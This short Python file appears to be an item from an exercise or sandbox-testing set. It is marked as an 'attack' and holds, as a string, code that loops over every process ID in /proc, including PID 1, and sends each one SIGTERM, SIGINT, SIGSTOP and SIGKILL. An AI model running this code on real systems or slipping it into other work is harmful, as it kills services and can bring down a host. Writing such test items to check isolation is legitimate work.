"""The fork server, and everything else there is, is sent signals."""

exercise = "36.1"
kind = "attack"
rest = "stub"
answers = {
    "36.1": """
import os, signal
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["1", "-1"]:
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        try:
            if int(pid) != os.getpid() and pid != "-1":
                os.kill(int(pid), number)
        except OSError:
            pass
""",
}
